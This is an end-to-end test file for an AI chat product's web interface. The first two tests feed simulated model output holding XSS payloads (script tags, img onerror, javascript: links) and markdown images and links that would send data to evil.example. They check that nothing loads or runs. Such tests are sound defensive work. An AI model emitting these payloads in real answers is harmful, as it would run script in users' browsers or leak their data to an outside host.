import { expect, test } from "vitest";

import { Visitor } from "./browser";
import { ask, ended, field, messagesIn, panel, said, say, withChat } from "./chat-product";

const at = withChat();

test("a model's text loads nothing, runs nothing and shows its addresses", async () => {
  const outside: string[] = [];
  const page = await at.ann.open("/?chat=new");
  page.on("request", (request) => {
    if (!request.url().startsWith(at.product.web)) outside.push(request.url());
  });
  at.model.says(
    [
      "![a cat](https://evil.example/cat.png?list=milk)",
      "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>",
      "[click](javascript:document.title='owned') [data](data:text/html,x) [out](/api/auth/sign-out)",
      "[your bank](https://evil.example/steal?list=milk) and https://good.example/",
      "[![inner](https://evil.example/in.png)](https://evil.example/outer)",
    ].join("\n\n"),
  );
  await say(page, "Show me");
  await said(page).getByText("your bank").waitFor();
  await ended(page);
  const answer = panel(page).getByRole("article").last();
  expect(await answer.locator("img, script, iframe, object, video, audio, style").count()).toBe(0);
  const links = await answer.getByRole("link").evaluateAll((all) =>
    all.map((one) => {
      const { href, target, rel, textContent } = one as HTMLAnchorElement;
      return { href, target, rel, textContent };
    }),
  );
  const safely = { target: "_blank", rel: "noopener noreferrer nofollow" };
  const evil = "https://evil.example";
  expect(links).toEqual([
    {
      ...safely,
      href: `${evil}/cat.png?list=milk`,
      textContent: "a cat (evil.example/cat.png?list=milk)",
    },
    {
      ...safely,
      href: `${evil}/steal?list=milk`,
      textContent: "your bank (evil.example/steal?list=milk)",
    },
    { ...safely, href: "https://good.example/", textContent: "https://good.example/" },
    { ...safely, href: `${evil}/outer`, textContent: "inner (evil.example/outer)" },
  ]);
  expect(await answer.innerText()).toContain("<script>");
  expect(await page.title()).not.toBe("owned");
  expect(outside).toEqual([]);
});

test("an injected task cannot write HTML into a step or a title", async () => {
  const title = "<img src=x onerror=alert(1)> [x](javascript:alert(1))";
  at.model.says({ call: "add_task", with: { title } }, "Added.");
  const page = await at.ann.open("/?chat=new");
  await say(page, title);
  await said(page).getByText(`Added “${title}”`).waitFor();
  await page.getByRole("button", { name: "All conversations" }).click();
  await panel(page).getByRole("button", { name: title, exact: false }).first().waitFor();
  expect(await said(page).locator("img").count()).toBe(0);
});

test("a message without a network is kept, and is sent once when the network is back", async () => {
  at.model.says("First.");
  const page = await at.ann.open("/?chat=new");
  await say(page, "One");
  await ended(page);
  at.model.says("Second.");
  await at.ann.context.setOffline(true);
  await say(page, "Two");
  await panel(page).getByText("There is no connection.").waitFor();
  expect(await field(page).inputValue()).toBe("Two");
  await at.ann.context.setOffline(false);
  // The request arrives, but its answer is lost.
  await page.route("**/chat/stream", async (route) => {
    await route.fetch();
    await route.abort();
  });
  await field(page).press("Enter");
  await panel(page).getByText("There is no connection.").waitFor();
  await page.unroute("**/chat/stream");
  await field(page).press("Enter");
  await said(page).getByText("Second.").waitFor();
  await ended(page);
  expect((await messagesIn(at, 1)).map(({ content }) => content)).toEqual([
    "One",
    "First.",
    "Two",
    "Second.",
  ]);
});

test("two tabs in one conversation: the second has to wait, and both show the answer", async () => {
  at.model.says("First.");
  const page = await at.ann.open("/?chat=new");
  await say(page, "One");
  await ended(page);
  let release = () => {};
  const held = new Promise<void>((resolve) => (release = resolve));
  at.model.says("Second.");
  at.model.pace = () => held;
  await say(page, "Two");
  const other = await at.ann.context.newPage();
  await other.goto("/?chat=1");
  await said(other).getByText("Two", { exact: true }).waitFor();
  await say(other, "Three");
  await panel(other).getByText("The assistant is still answering the message before.").waitFor();
  expect(await field(other).inputValue()).toBe("Three");
  release();
  for (const one of [page, other]) await said(one).getByText("Second.").waitFor();
});

test("somebody else's conversation is as one that is not there", async () => {
  await ask(at, "POST", "/chat", { message: "A secret" });
  const eve = await Visitor.withAccount({ baseURL: at.product.web });
  const page = await eve.open("/?chat=1");
  await page.getByText("This conversation does not exist.").waitFor();
  await eve.leave();
});

test("a text that is too long or shows nothing is not sent, and loses nothing", async () => {
  const page = await at.ann.open("/?chat=new");
  const button = page.getByRole("button", { name: "Send" });
  await field(page).fill("\u200b \u2060\n");
  expect(await button.isDisabled()).toBe(true);
  await field(page).fill("x".repeat(50_001));
  await page.getByText("50,001 of 50,000 characters: shorten it by 1 to send it.").waitFor();
  expect(await button.isDisabled()).toBe(true);
  expect((await field(page).inputValue()).length).toBe(50_001);
  at.model.says("Long.");
  await field(page).press("Backspace");
  await field(page).press("Enter");
  await said(page).getByText("Long.").waitFor();
  expect((await messagesIn(at, 1))[0]?.content).toHaveLength(50_000);
});
